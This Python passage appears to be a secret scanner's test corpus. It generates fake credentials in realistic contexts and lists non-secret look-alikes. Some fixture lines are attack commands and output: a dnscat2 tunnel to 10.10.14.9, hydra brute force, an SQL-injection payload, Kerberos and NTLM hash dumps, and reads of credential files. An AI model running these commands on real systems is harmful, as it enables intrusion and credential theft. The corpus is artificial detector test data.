        ("bcp dbo.Orders out orders.dat -S wh01 -U etl -P {} -c", "Quartz" + q(6) + "7x"),
        ("sqlldr userid=loader/{}@DWPROD control=orders.ctl", q(16)),
        ("mkstore -wrl /u01/wallet -createCredential DWPROD etl_owner {}", "Cedar" + q(8) + "41"),
        ('CREATE USER stage_etl IDENTIFIED BY "{}";', "Maple" + q(7) + "9q"),
        ("sentinel auth-pass cache-main {}", q(22)),
        ("basic.auth.user.info=" + q(16, UPPER) + ":{}", q(64, ALNUM + "+/")),
        ("--conf spark.hadoop.fs.azure.account.key.lake.dfs.core.windows.net={}",
         q(86, ALNUM + "+/") + "=="),
        ("$ prefect cloud login -k {} --workspace team/prod", "pnu_" + q(36)),
        ("gs_access_key_id = {}", "GOOG1" + q(56, UPPER)),
        ("Created the Reviews app key: {}", "pk_" + q(34, HEX)),
        ("Consumer Key {} / Consumer Secret in the vault", "ck_" + q(40, HEX)),
        ("SP-API refresh token:\n{}", "Atzr|" + q(120, URLSAFE)),
        ("ASANA_PAT={}", "2/" + q(16, "0123456789") + "/" + q(16, "0123456789") + ":" + q(32, HEX)),
        ("iCloud calendar sync – app-specific password {}",
         "-".join(q(4, string.ascii_lowercase) for _ in range(4))),
        ("here's the login, the link works once:\nhttps://share.1password.com/s#{}",
         q(80, URLSAFE)),
        ("test with this: https://{}.m.pipedream.net", q(20, LOWER)),
        ("GitHub recovery codes:\n" + " ".join(q(5, LOWER) + "-" + q(5, LOWER) for _ in range(4))
         + "\n{} " + q(5, LOWER) + "-" + q(5, LOWER), q(5, LOWER) + "-" + q(5, LOWER)),
        # a chat's paste: the token in the next message; an app password after a phrase
        # that ends in "email"; a key after a JSON-escaped break; Freshdesk's KEY:X
        ("Oskar 08:55  pipedrive token for the quote tool 👇\nOskar 08:55  {}", q(40, HEX)),
        ("Raj 11:15  gmail app password for the scanner-to-email: {}",
         " ".join(q(4, string.ascii_lowercase) for _ in range(4))),
        ('{"content": "the loader login: LOADER_SVC / {}\\naccount is xy12345"}',
         "Dq" + q(16)),
        ("curl -s -u {}:X https://shop.freshdesk.com/api/v2/tickets", q(20)),
    )
    # round 38: the held-out halves' leaks, read once held out and written anew: a grid of
    # backup codes after a heading in parentheses, Make's webhook, Keeper's and Bitwarden
    # Send's links, Kerberos keys and a ticket, a pwdump line behind CME's columns, shodan's
    # key, Vault's new secret id, a Junos $9$ secret, Mercado Pago's token
    digits = "0123456789"
    out += _shapes(
        "round-38",
        ("Workspace backup codes (generated 3 May)\n{}   " + q(4, digits) + " " + q(4, digits)
         + "\n" + q(4, digits) + " " + q(4, digits), q(4, digits) + " " + q(4, digits)),
        ("old form hook: https://hook.eu1.make.com/{}", q(32, LOWER)),
        ("one-time share: https://keepersecurity.com/vault/share#{}", q(43, URLSAFE)),
        ("Send link: https://send.bitwarden.com/#{}", q(22, URLSAFE) + "/" + q(22, URLSAFE)),
        ("[*] Kerberos keys grabbed\nkrbtgt:aes256-cts-hmac-sha1-96:{}", q(64, HEX)),
        ("      aes256_hmac       (4096) : {}", q(64, HEX)),
        ("  Base64EncodedTicket   :\n\n      {}", "doIF" + q(300, ALNUM + "+/") + "="),
        ("SMB  10.0.4.5  445  WS07  Administrator:500:aad3b435b51404eeaad3b435b51404ee:{}:::",
         q(32, HEX)),
        ("$ shodan init {}\nSuccessfully initialized", q(32)),
        ("$ vault write -f auth/approle/role/ci/secret-id\nKey                   Value\n"
         "secret_id             {}\nsecret_id_accessor    " + uuid(), uuid()),
        ('set security ike policy p1 pre-shared-key ascii-text "{}"', "$9$" + q(24, ALNUM + "./-")),
        ("Mercado Pago token: {}", "APP_USR-" + q(16, digits) + "-" + q(6, digits) + "-"
         + q(32, HEX) + "-" + q(9, digits)),
        # a card's second row under a header two rows up, "sec code", --private-key, curl's
        # --user ":SECRET", an LND macaroon, Yandex's and Alibaba's STS key ids, an SDK's
        # AK/SK pair, an aws configure prompt, Baidu's ak of hex
        ("Cardholder,Card number,Exp,CVV\nA. Lee," + card(6, "") + ",07/27,512\nB. Ray,{},10/26,"
         "318", card(7, "")),
        ("updated the payment method to " + card(8, " ") + " exp 02/28 sec code {}",
         q(3, "123456789")),
        ("cast send 0xA0b8 \"transfer(address,uint256)\" 0x3e57 25 --private-key {}", q(64, HEX)),
        ("curl --user :{} https://mainnet.infura.io/v3/" + q(32, HEX), q(32, HEX)),
        ('curl -H "Grpc-Metadata-macaroon: {}" https://lnd.internal:8080/v1/balance',
         "0201036c6e64" + q(200, HEX)),
        ("[yandex]\naws_access_key_id = {}", "YCAJ" + q(21, URLSAFE)),
        ('"Credentials": {"AccessKeyId": "{}", "Expiration": "2026-05-21"}', "STS." + q(25)),
        ("export HUAWEICLOUD_SDK_AK={}\nexport HUAWEICLOUD_SDK_SK=" + q(40), q(20, UPPER)),
        ("export HUAWEICLOUD_SDK_AK=" + q(20, UPPER) + "\nexport HUAWEICLOUD_SDK_SK={}", q(40)),
        ("$ aws configure --profile ncp\nAWS Access Key ID [None]: {}", q(20, UPPER)),
        ("[defaults]\nak = {}\nsk = " + q(32, HEX), q(32, HEX)),
        ("Arbitrum node: https://rpc.ankr.com/arbitrum/{}", q(64, HEX)),
    )
    return out


def card(extra: int, sep: str) -> str:
    """A Visa number of the corpus's own draws with Luhn's check digit, in groups of four
    joined by ``sep``; ``extra`` varies the draw (the network's prefix stays 4)."""
    digits = "4" + str(extra) + q(13, "0123456789")
    total = 0
    for i, c in enumerate(reversed(digits)):
        d = int(c) * (1 if i % 2 else 2)
        total += d - 9 if d > 9 else d
    digits += str(-total % 10)
    return sep.join(digits[i:i + 4] for i in range(0, 16, 4))


NEAR_MISSES: dict[str, tuple[str, ...]] = {
    # round 32: a security practitioner's look-alikes (the empty NT hash, a sample's config
    # and mutex, a JA3 string, a cipher's test vector, tokens' prefixes), a web builder's
    # stand-ins and public keys, a setting after a token on the next line
    # round 33: money's and the world's look-alikes: a masked card, a network's test card, an
    # order's number, a sandbox's documented keys, a BIP-32 test vector's xpub, a local
    # chain's default key and phrase, stand-ins in other languages, a page's client key
    # round 34: the eleventh real sample's wrong lines, written anew: a password policy's
    # fields, an account's flags, a DPAPI master key's GUID, a credential file's name in a
    # Windows path, `net user /domain NAME`, a cyclic pattern, a format's prefix alone, a
    # playground's source in a URL, an analytics cookie's encoded text, an environment's
    # session name, Symfony's env reference, a header's name, an SMB prompt, a lexer's style
    # round 39: the held-out halves' other changed near misses: ids and signatures of a
    # payment's response, Swedish and Korean stand-ins, a docs page's and a sandbox's keys,
    # Solana's programs, a test mode's card, a share link's key in a URL's query
    "round-39": (
        '{"openid":"oX8n_6H2kq3pL9vT4wRzYb1cD5eF","unionid":"o6_bmasdasdsad6_2sgVt7hMZOPfL"}',
        '"additionalData": {"hmacSignature": "kX3vQ8mN2pL7tR9wY4zB6cD1fG5hJ0sA+eI="}',
        "KLARNA_API_USERNAME=ditt_användarnamn\nKLARNA_API_PASSWORD=ditt_lösenord",
        "kakao:\n  rest-api-key: 발급받은_REST_API_키",
        "| secretKey | NhqPtmdSJYdKjVHjA7PZj4Mge3R5YNiP1e3UZjInClVN65XAbvqqM6A7H5fATj0j |",
        'curl -H "X-CMC_PRO_API_KEY: b54bcf4d-1bca-4e8e-9a24-22ff2c3d462c" '
        "https://sandbox-api.coinmarketcap.com/v1/cryptocurrency/listings/latest",
        "Token program:   TokenkegQfeZyiNwAJbNbGKPFXCWuBvf9Ss623VQ5DA",
        "Test mode card 4111 1111 1111 1111, any future expiry, CVV 123",
        "[read it](https://readmedium.com/a-86fb24fa6b10?sk=v2%2Fd57fe09a-6a01-4241-bb30-c0937)",
    ),
    # round 38: the held-out halves' changed near misses, written anew: a hook cut short
    # with an ellipsis, a Vault accessor, a Cisco type 9 hash
    "round-38": (
        "Old hook https://hooks.slack.com/services/T04ZX3K9Q/B07… was revoked in June.",
        "Webhook: https://ops.webhook.office.com/webhookb2/…/IncomingWebhook/… (full URL in Vault)",
        "secret_id_accessor    1aadca2e-8f24-4fd6-9bb9-d85de2c40d58",
        "username ops privilege 15 secret 9 $9$nh3mQVczB7dqsO$X.HsgL6x1il0RxkOSSvyQYwucyS",
    ),
    # round 37: the twelfth real sample's wrong lines (read held out, development since),
    # written anew: a script's $(cat …) and the line after it, a flag at a line's end and the
    # command on the next, a PowerShell command beside a key, an embed after "password:", a
    # setting on the line after a label, "**hidden**", a word before a path
    "round-37": (
        'DB_PASS=$(/usr/bin/cat /root/.creds)\nBACKUP_DIR="/var/backups/mysql"',
        "netexec smb 10.10.11.69 -u svc --pfx-pass \n\nnetexec smb 10.10.11.69 -u svc -k",
        "Import-Module .\\dnscat2.ps1\n\nStart-Dnscat2 -DNSserver 10.10.14.9 -Domain corp.local",
        "reveals a connection string containing the password:\n![[dnspy_conn_string.webp]]",
        "  Credential: **hidden**",
        "Password: Restoring /etc/passwd from /tmp/passwd.bak...",
    ),
    # round 36: the thirteenth real sample's wrong lines (and the corpora's chat pastes),
    # written anew: a type's annotation, Laravel's cast, a k8s secretKey's name, an absolute
    # path, Compose's $$VAR and $$(…), a build secret's spec, "net user" in a sentence, a
    # stand-in's tail, a phrase that ends in "email" before a password
    "round-36": (
        "    val refresh_token: String? = null,",
        "            'password' => 'hashed',",
        "      - secretKey: DATABASE_URL    # the key inside the Secret",
        "      - secretKey: .dockerconfigjson",
        "`sudo grep psk= /etc/NetworkManager/system-connections/*`",
        '    --header="X-Cron-Secret: $$CRON_SECRET"',
        "run --token \"$$(cat /run/secrets/cf_tunnel_token)\"",
        "docker build --secret id=npmrc,src=.npmrc .",
        "## dot net user group interlude",
        "dirb <URL> -w <Wordlist> -u <Username:Password>",
    ),
    # round 35: the data engineer's and the SaaS admin's look-alikes
    "round-35": (
        'beeline -u "jdbc:hive2://hs2.corp.local:10000/default;principal=hive/_HOST@CORP.LOCAL"',
        "bcp dbo.Orders out orders.dat -S wh01 -T -c  # trusted connection, no password",
        "TeleBot(\"123456:ABC-DEF1234ghIkl-zyx57W2v1u123ew11\") is the Bot API docs' example",
        "gtag('event', 'conversion', {'send_to': 'AW-11284920371/Xq9kCLmT7ZoZEKvPl4Qq'});",
        'const stripe = Stripe("pk_live_51HqLyjWDarjtT1zdp7dcXq9kCLmT7ZoZEKvPl4Qq");',
        "Asana task link: https://app.asana.com/0/1204381192004571/1206692334509184",
        "Codes to print: 4 recovery codes per line, 16 in all",
    ),
    "round-34": (
        "\t[+] Password Complexity Flags: 000001",
        "Maximum password age (days):                          Unlimited",
        "[+] Password Info for Domain: NORTHWIND",
        "        |->Password: CanChange-NotExpi-Req",
        "    MasterKey: 9c4f1d2e-7b3a-4e8f-a1c2-5d6e7f8091ab",
        "    CredFile: C:\\Users\\ops\\AppData\\Local\\Microsoft\\Credentials\\"
        "A7C2E19F04B3D58C6E7F8091A2B3C4D5",
        "PS C:\\lab> net user /domain j.doe",
        "net user %username%\tInformation about the current user",
        '    pattern = bytes("Aa0Aa1Aa2Aa3Aa4Aa5Aa6Aa7Aa8Aa9Ab0Ab1Ab2Ab3", "utf-8")',
        "hashes that begin with `$krb5tgs$18$*` are AES-encrypted",
        "$krb5tgs$23$*websvc.kirbi*$[-SNIP-]",
        '<iframe src="https://play.rust-lang.org/?version=stable&code=use%20std%3A%3Acell%3A%3A'
        'Cell%3B%0A%0Afn%20main()%20%7B%7D"></iframe>',
        "Cookie: s_pers=%20s_vnum%3D1546597042049%2526vn%253D1%7C1546597042049%3B%20s_nr%3D15",
        '  →  "DESKTOP_SESSION=lightdm-xsession"',
        "    api_key: '%env(OPENAI_API_KEY)%'",
        "  - CHROMA_SERVER_AUTH_TOKEN_TRANSPORT_HEADER=Authorization",
        "Password for root@//10.10.10.134/Backups: ",
        "ZSH_HIGHLIGHT_STYLES[unknown-token]=underline",
        "| 2  | gASVTwAAAAAAAACMCF9fbWFpbl9flIwEVXNlcpSTlCmBlH2UjARuYW1llIwFR3Vlc3SUc2Iu |",
        "Cookie: PHPSESSID=TzoxMDoiVXNlck1vZGVsIjoxOntzOjg6InVzZXJuYW1lIjtzOjU6Imd1ZXN0Ijt9",
        'ByteString golden = ByteString.decodeBase64("rO0ABXNyAB5va2lvLnNhbXBsZXMuR29sZGVu");',
        "Password rotation ^Lq8dWx3K",
        '`$password = Read-Host -AsSecureString "Enter your password:"`',
    ),
    "round-33": (
        "Card on file: •••• •••• •••• 4242 (exp 08/27)",
        "Stripe test card: 4242 4242 4242 4242, CVC 123, any future date",
        "Testkarte: 5555 5555 5555 4444, CVC 737, Ablauf 03/30",
        "Order 4716 1089 9301 2475 shipped on 2026-03-02 (tracking 9400111899223857264837)",
        "xpub661MyMwAqRbcFtXgS5sYJABqqG9YLmC4Q1Rdap9gSE8NqtwybGhePY2gZ29ESFjqJoCu1Rupje8YtGqsef"
        "D265TMg7usUDFdp6W1EGMcet8",
        "Hardhat Account #0 key: "
        "0xac0974bec39a17e36ba4a6b4d238ff944bacb478cbed5efcae784d7bf4f2ff80",
        "ganache -d  # mnemonic: myth like bonus scare over problem client lizard pioneer submit "
        "female collect",
        "MOLLIE_API_KEY=live_DEIN_API_SCHLUESSEL",
        "ADYEN_HMAC_KEY=UW_HMAC_SLEUTEL",
        "TELEGRAM_TOKEN=ТОКЕН_ОТ_BOTFATHER",
        'const clientKey = "live_ck_Zr4pQm8vTn2WxY6bKd0sLf3h";',
        '"CHECKSUMHASH": "q8XvT2mLp9Rk4Wn7Zy3Hd6Fb1Js5Gc0V"',
        "Stripe docs sample keys:\nsk_test_4eC39HqLyjWDarjtT1zdp7dc\n"
        "pk_test_TYooMQauvdEDq54NiTphI7jx",
    ),
    "round-32": (
        "Guest:501:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0:::",
        "  * NTLM     : 31d6cfe0d16ae931b73c59d7e0c089c0",
        "Config: RC4 key `5be1c07e93a40d2f6b7a81c4e09d33f2` (16 bytes), mutex "
        "`Global\\Qm7vTzL2xw9PkR4n`, campaign id `lx-2291`",
        "JA3 `771,4865-4866-4867-49195-49199,0-23-65281-10-11-35-16,29-23-24,0`",
        "AES-128 test vector: key `000102030405060708090a0b0c0d0e0f`, plaintext "
        "`00112233445566778899aabbccddeeff`",
        "Token prefixes: `xoxb-` bot, `xoxp-` user, `ghp_` classic, `github_pat_` fine-grained",
        "RESEND_API_KEY=re_123456789",
        "ALGOLIA_ADMIN_KEY=YourAdminAPIKey",
        "# test keys (always pass):\nTURNSTILE_SITE_KEY=1x00000000000000000000AA\n"
        "TURNSTILE_SECRET_KEY=1x0000000000000000000000000000000AA",
        '<script src="https://cdn.growthbook.io/js/gb.js" data-client-key="sdk-Hq83kLmX2vTn5pWd">'
        "</script>",
        "RECAPTCHA_SITE_KEY=6Lc9xQ8pAAAAAJ3mTn2vKq7WbZr4YdPs0uFgHe1L",
        "Windows paths: C:\\Users\\ops:backup and D:\\share\\logs:old",
        "$ aws ecr get-login-password --region eu-west-1 | docker login --username AWS "
        "--password-stdin 1234.dkr.ecr.eu-west-1.amazonaws.com\nLogin Succeeded",
        "std::vector<int>::iterator it; // see ns::detail:abcdef0123456789",
    ),
    # round 31: code that names a value, formulas, package versions, "pass" in a sentence and
    # ids side by side (the fourth and fifth real samples' wrong lines, written anew)
    "round-31": (
        "        let session = SessionState(authToken: token, expires: .never)",
        "    assert store.lookup(kind: .cookie, creds: .missing, at: now) == nil",
        "\treturn basicAuth{password: *pwd}",
        '\treturn map[string]any{"user": c.User, "password": c.Password}, nil',
        "const stored = sessionStorage.getItem('refresh_token');",
        "    let secret = SecretKey::generate(&mut rng);",
        "export type Keys = { secretKey: Uint8Array; publicKey: Uint8Array };",
        "Body: `{email: str, password: str}` — the server answers 201.",
        "        'password' => $input['password'], 'remember' => true,",
        "    rest_pass  = (df['end'] - df['start']).dt.seconds",
        "Bob computes his private key from $x(aP) = xaP$ and keeps it.",
        "So the private key is ($\\color{red}n, d$) = ($\\color{red}55, 27$).",
        "Both roots of $k^2 - 4k/T_0$ are real; the token count stays fixed.",
        "- Still on top: `CxQr8PLm2Wd` / `CxQm3NZa9Tf` (two posts of 10-02)",
        "func Attach(token *jwt.Token) grpc.CallOption {",
        "Pinned versions:\n  lodash@4.17.21\n  express@4.19.2",
        "  icu@74.2\n  openssl@3.0.13+quic",
        "- **Two-step review**: first pass = spelling + links; second pass = facts",
        "- [x] 04-01 — layout pass: grid-gap 12px on every card",
        "Both checks PASS: reviewer §3 (no gaps found)",
        "    private let session: KeychainCredentials",
        "    init(credentials: KeychainCredentials) {",
        "static let storageKey = DefaultsKey.lastSyncPresentation",
        "const CACHE_KEY = 'draft-editor:layout';",
        "etcd --name n1 --initial-cluster-token staging-cluster-2 --data-dir /var/lib/etcd",
        "session_id: 2026-03-14-7fa2c9           ← the agent's own run",
        "- [Error: Password is Incorrect](#error-password-is-incorrect)",
        "|**4.2.1**|Accounts|Password reuse is limited|**PASS**|",
        "- 3. Signing key was lost/regenerated, so the profile was rebuilt",
        "- Colour token replacement: text-slate-*/text-black → text-ink-2",
        "- Token format: `^[A-Z]{3}-\\d{4}$` in the validator",
        "- [ ] REGISTRY_TOKEN is a granular token (no 2FA): `npm token list` shows it",
        "Convert with the token's decimals: `raw / 10 ** decimals`.",
        "_hidden ? 'Show password' : 'Hide password',",
        'read -p "Login: " login; read -p "Password: " pw; echo ok',
        "sed -i 's|^SESSION_SECRET=.*|SESSION_SECRET=$(openssl rand -hex 32)|' .env",
        'echo "DEEPSEEK_API_KEY=sk-你的密钥" >> .env',
        "label = f\"{token}:{suffix}\"",
        "|Minimum password length|12|",
        "-Password Rotation, Verification, Reconciliation",
        "- Ticket token: `#[0-9]{3,6}` in the commit's subject",
        "Scale the token amount by its decimals: `amount * 10 ** decimals`.",
        "- Input focus token: `ring-sky-400 dark:ring-sky-700` → `ring-focus`",
        "curl -X PUT http://admin:你的密码@127.0.0.1:5984/notes",
        'Grep for `"QwenForSequenceClassification2"` in the model registry',
        "// returns 'patchedValueOfFirstArg2' when the hook ran",
        "| Schlüssel | Beschreibung |\n| --- | --- |\n| `event_start_date` | Beginn des Termins. |",
        "readers often blame the code is slow. — location: [4821](kindle://book?action=open)",
        "- the signing key in transcript `9f3b21ac:~412` (read it there, not here)",
        "   derived_secret = HMAC-Extract(derived_salt, conn_id)",
        "    review_session: reviewSessionLink,",
        "- **At rest**: AES-256-GCM encryption, key from PBKDF2",
        "`APP_THEME` selects the token palette: `auto`, `dark`, or `light`.",
        "- [x] Rotate the remaining passwords: kafka, harbor, vault group ✅ 2026-04-02",
        "grep -E 'pass=|pwd=|login=|token=' access.log",
        "team:\nmarta.k@example.org\njonas.b@example.org",
        "bibtex_key: Hartmann2024-qa",
        "GET _tasks/oTUltX4IQMOUUVeiohTt8A:12345",
        "ctx, cancel := context.WithTimeout(ctx, 3*time.Second)",
        "- **Public Key**: `GCFXHS4GXL6BVUCXBWXGTITROWLVYXQKQLF4YH5O5JT3YZXCYPAFBJZB`",
        "Review verdict — PLAUSIBLE. The sources agree on the token limit.",
        "Cookie: theme=dark; verify=wiener; lang=de",
        'reg query "HKLM\\SOFTWARE\\Wow6432Node\\Vendor\\App" /v Token',
        'tok = AutoTokenizer.from_pretrained("Mistral/Ministral-8B-Instruct")',
        '  memberperiodid__c: "a0nPm00000qtyonIAA",',
        'date -u "+%Y-%m-%dT%H:%M:%SZ"    # now, in ISO 8601',
        "**pass = True.** The second check agrees with the first.",
        "wait 5m → lint → pass: merge",
        "client_secret = $__env{OAUTH_CLIENT_SECRET}",
        '  command: "mysql -u {{ db_user }} -p{{ db_password }} -e \'SHOW TABLES;\'"',
        "for up in $(cat pairs.txt); do sshpass -p `echo $up | cut -d: -f2` ssh host; done",
        "Get the token first:\nmarta7@k8s-lab:~$ kubectl --token=$token get pods",
        'example.org.   300   IN   TXT   "google-site-verification='
        'Qm3xT0pV8rWk2LbY9sNfZ4dHcJ6aE1gUoIiR5yX7wKe"',
        "class PickPlaceSimMarkerFLowEnvV3(PickPlaceSimEnvV3):  # the token budget is per step",
        "    secret_key_base = Rails.application.secret_key_base # from credentials.yml.enc",
        "  hasToken: !!process.env.API_TOKEN, // a boolean only",
        "  proxy.Credentials = CredentialCache.DefaultNetworkCredentials",
        "      token = JWT.encode payload, signing_key, \"HS256\"",
        '      { token: "keyword", foreground: "c678dd" },',
        "hydra -l admin -P words.txt host http-post-form \"/login:user=^USER^&pass=^PASS^:F=no\"",
        '  return "Session{id=\'" + id + "\', token=\'" + sessionToken + "\'}";',
        "    client-key: C:\\Users\\ana\\.minikube\\client.key",
        "data={'token': f'{n:04d}', 'email': 'me@example.org'}",
        "[+] Payload: ?pw=' OR (SELECT 1 UNION SELECT 2 WHERE id='admin')--",
        "- [[Term 2/B - the basic ideas/PH201 - B1 - waves|PH201 B1]]",
        "    client_secret = var.graph_client_secret",
        '<assemblyIdentity name="Microsoft-Windows-Shell-Setup" '
        'publicKeyToken="31bf3856ad364e35" />',
        "spark@4f2c9e1a7b3d:/opt/spark/work$ ls",
        "| model | Tokenizer | Recall@5 | nDCG@10 |",
        "// ========== Token 刷新 ==========",
        'db.query("SELECT * FROM users WHERE name = :name AND password = :password");',
        "    password = #{password},",
        '- **分层 token 设计**："帧级+句级"的编码',
        "|_  basic realm=TomcatRealm",
        "read access to userPassword: ALLOWED",
        'document.cookie="accountUsername=MaryAnneBrown";',
    ),
    # round 30: corpora 28 and 29 (what a shop's, a maker's and a streamer's notes hold that
    # is none)
    "round-30": (
        "Server: rtmp://live.twitch.tv/app/ (the key is in the Twitch dashboard)",
        "WiFi.begin(WIFI_SSID, WIFI_PASS);\nArduinoOTA.setPassword(OTA_PASSWORD);",
        'xcrun altool -u dev@example.org -p "@keychain:AC_PASSWORD"',
        "NimBLEDevice::setSecurityPasskey(123456);",
        "static const u1_t PROGMEM DEVEUI[8] = { 0x70, 0xB3, 0xD5, 0x7E, 0xD0, 0x05, 0x1A, 0x2B };",
        "force_install_dir ../srv\nlogin anonymous\napp_update 376030 validate",
        "| Key | Value |\n|---|---|\n| MATCH_GIT_URL | `git@github.com:x/certs.git` |\n"
        "| MATCH_PASSWORD | (see Vault: mobile/match) |",
        "gameKey:\n  - " + nq(32, HEX) + "\nsecretKey:\n  - ",
        "wifi_password_min_length: 12345678",
        'Purchases.configure(withAPIKey: "appl_' + nq(27) + '")',
        "mqtt.connect('mqtts://broker:8883', { clientId: 'garage-esp32-01', username: 'iot', "
        "password: process.env.MQTT_PASSWORD });",
        'app_store_connect_api_key(\n  key_id: "W9TTLZXF03",\n  issuer_id: "' + nq(8, HEX) + "-"
        + nq(4, HEX) + "-" + nq(4, HEX) + "-" + nq(4, HEX) + "-" + nq(12, HEX) + '",\n)',
        "Keystore: upload.jks\nStore type: PKCS12\nKey alias: upload",
        "motd=\\u00a76Kumpel-SMP\nrcon.password=\nrcon.port=25575",
        "    resource: !secret blynk_v5_url",
        "## ハードウェアウォレット\nマスター指紋：" + nq(8, HEX),
        "KSeF – faktura przyjęta\nNIP: 5261040828",
        "define( 'WP_CACHE_KEY_SALT', 'praxis-weber.de' );",
        "the POS asks for a manager PIN. can you keep the PIN out of the doc? PLU for espresso "
        "is 9118",
        "PIN: nella busta in cassaforte\nPUK: nella busta in cassaforte\n"
        "Certificato CNS scade il 12.07.2023, numero serie 97177744",
        "ADYEN_CLIENT_KEY=live_T196IPJ2CD6RG9YL8SVCA6EJNA9QMRYW",
        '# {"id":7033,"order_key":"wc_order_HhaFUxt4SpY63","status":"processing"}',
        "password: scade ogni 90 giorni",
        "# PAT: Integrations > API & Webhooks > Generate new token",
        '\t"github_pat":  regexp.MustCompile(`ghp_[A-Za-z0-9]{36}`),',
        "AuthCode: kommt per Post von Strato\nAuth code: 123456",
        "[24.12.24, 07:58] Marco: der Storno-Code ist jetzt geändert, frag mich",
        "Kassa: 24 tafels, code: 2024 (jaar)",
        "Transfer lock: on. EPP status: clientTransferProhibited",
        # the fourth real sample's wrong classes (read blind at the end), written anew
        "   PASS  Tests\\Feature\\OrderTest\n  ✓ it creates an order",
        "msbuild App.sln /t:Rebuild /p:Configuration=Debug /m",
        "deploy ALL=(root) NOPASSWD: NGINX_RELOAD",
        '    db: { user: "demo", pwd: "123456", },',
        "'password' => 'required|string|min:12|confirmed',",
        "$pass = $_POST['pass'] ?? '';",
        "query Ranking($apiKey: String!) { ranking(apiKey: $apiKey) }",
        "pip install tiktoken==0.8.0 openai==1.2.3",
        "✔ нет секретов в изменённых строках — чисто",
        "{{ admin_password | password_hash('sha256') }}",
        "return back()->withErrors(['error' => 'The username or password you entered is wrong.']);",
        '  "appSigningCertSha384": "...",',
        '--data-urlencode "wallet=0x' + nq(40, HEX) + '"',
        '"chain": "solana:' + nq(32, "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz")
        + '", "feeMint": "' + nq(44, "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz")
        + '"',
        'errors["password"] = "Password must be at least 12 characters"',
        "| Secret | Value |\n|---|---|\n| `DB_HOST` | database host |\n"
        "| `DB_PASSWORD` | the app user's password |",
        # …and what the session's own new rules changed there (all wrong), written anew
        '      pcrs: {\n        "1": process.env.APP_PCR1!,\n      },',
        'export APP_SIGNING_PRIVATE_KEY="$PWD/certs/signing-key.pem"',
        'DATABASE_PW="########"',
        'DOCKER_PASSWORD="你的阿里云密码"',
        "// Set-Cookie: JSESSIONID=abc123; HttpOnly; Secure",
        "- auth-code + PKCE, see (auth.ts:120-131).",
        "    public function test_user_can_edit_own_post()",
        'Use one vague message: "The username or password you entered is wrong."',
        'Jito tip accounts (Solana mainnet):\n    "'
        + nq(44, "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz") + '",',
        "    estimator = Estimator(sagemaker_session=sagemaker_session, role=role)",
        "- Main finding of this pass: big-tech vendors ship the same workflow",
        "            password: form.password,\n            \"to_token\": to_symbol,",
        'headers={"x-api-key": PARTNER_API_KEY})',
        '  "@solana/spl-token": "^0.4.1"',
        "- Design-system token sweep: `--muted`, `--border` tokens added",
        '  debug_session: ".planning/debug/resolved/settings-page"',
        "`mysqlbinlog $f | mysql -h$host -u$user -p$pwd` 把日志发给目标库",
        "(el multiplicador de tokens es 10×–100×)",
        # the fifth real sample's largest wrong class (read blind): date's -u and a format
        'utc_now() { date -u +%Y-%m-%dT%H:%M:%SZ; }',
        # a line of 9,000 spaces in a note (a rule once backtracked over it for 30 s)
        "Router Login:\n" + " " * 9000 + "\nend",
    ),
    # round 29: corpora 24 and 25 (what the home lab's and research's files hold that is none)
    "round-29": (
        "Backlog MqttHost 10.0.0.5; MqttUser tasmota; Topic dryer; TelePeriod 60",
        "root@OpenWrt:~# uci set wireless.@wifi-iface[0].encryption='psk2'",
        "C:\\> net use Z: \\\\nas\\dokumente /user:NAS\\papa /persistent:yes",
        'echo "$RCLONE_PW" | rclone obscure -',
        "wandb login --relogin",
        "snmpwalk -v2c -c public 192.168.1.1 system",
        'snmpget -v3 -l authNoPriv -u librenms -a SHA -A "$SNMP_AUTH" 10.0.0.2 sysUpTime.0',
        "Community: Obsidian-Forum-Berlin (we meet on Fridays)",
        '[[inputs.snmp]]\n  agents = ["udp://10.0.0.2:161"]\n  community = "public"',
        "password: $2y$10$" + nq(53, ALNUM + "./"),
        "ADMIN_TOKEN='$$argon2id$$v=19$$m=65540,t=3,p=4$$" + nq(22) + "$$" + nq(43) + "'",
        "    client_secret: '$pbkdf2-sha512$310000$" + nq(22) + "$" + nq(86) + "'",
        '- "traefik.http.middlewares.auth.basicauth.users=yuki:$$apr1$$' + nq(8) + "$$"
        + nq(22) + '"',
        '  pwhash = "$BALLOON-SHA256$v=1$s=1024,t=32$' + nq(22) + "==$" + nq(43) + '="',
        "config login\n\toption username 'root'\n\toption password '$p$root'",
        "fritzbox_password: !env_var FRITZ_PASSWORD",
        '"dbpassword": "***REMOVED SENSITIVE VALUE***",',
        "      MINIO_ROOT_PASSWORD: minioadmin",
        "APP_KEY=SomeRandomStringOf32CharsExactly",
        "[security]\nsecret_key = SW2YcwTIb9zpOOhoPsMm",
        "TELEGRAM_BOT_TOKEN=123456789:ABCdefGhIJKlmNoPQRsTUVwxyZ",
        'openai.api_key = os.environ["OPENAI_API_KEY"]\nopenai.organization = "org-'
        + nq(24) + '"',
        "- OTP per App, Token-Seriennummer " + nq(12, UPPER),
        'token <- Sys.getenv("REDCAP_TOKEN")\n'
        "ds <- redcap_read(redcap_uri = uri, token = token)$data",
        'exp = Experiment(api_key=os.getenv("COMET_API_KEY"))\n# resume exp key ' + nq(32, HEX),
        "config wireguard_wg0\n\toption public_key '" + nq(43) + "='",
        'curl -k -H "Authorization: PVEAPIToken=root@pam!ci=$PVE_TOKEN_SECRET" https://pve:8006',
        "- tk_AgQdq7mVBoFD37zQVN29RhuMzNIz2 (<- example token from the ntfy docs)",
        'expect "Password:"\nsend "$env(SSH_PASS)\\r"',
        "AWS_SHARED_CREDENTIALS_FILE=/home/anna/Projects/Thesis2024/aws/credentials",
        "Password rules for the family:\n- at least 14 characters\n"
        "- Example of a bad one: Fluffy2019!",
        "Price: 49.99+tax",
        "Meeting room: Q&A-2024-West",
        "Version: 2.14.3-rc.1+build.aaaa89e",
        "UPI ID: anita73@ybl",
        "Contact: @Jonas_Bauer92!",
        "the password policy (currently 12 characters) is fine",
        "Passwort — siehe Bitwarden, Eintrag Familie",
        "Password reset code sent: 123456. Valid 10 min",
        "WLAN-Passwort (aktuell: siehe Tresor) ändern",
        "J'ai changé mon mot de passe hier via le lien. Numéro client : 50682931, contrat 77.",
        "[*] Salt for password found: " + nq(16, HEX),
        "(password required) — log in with your account and password",
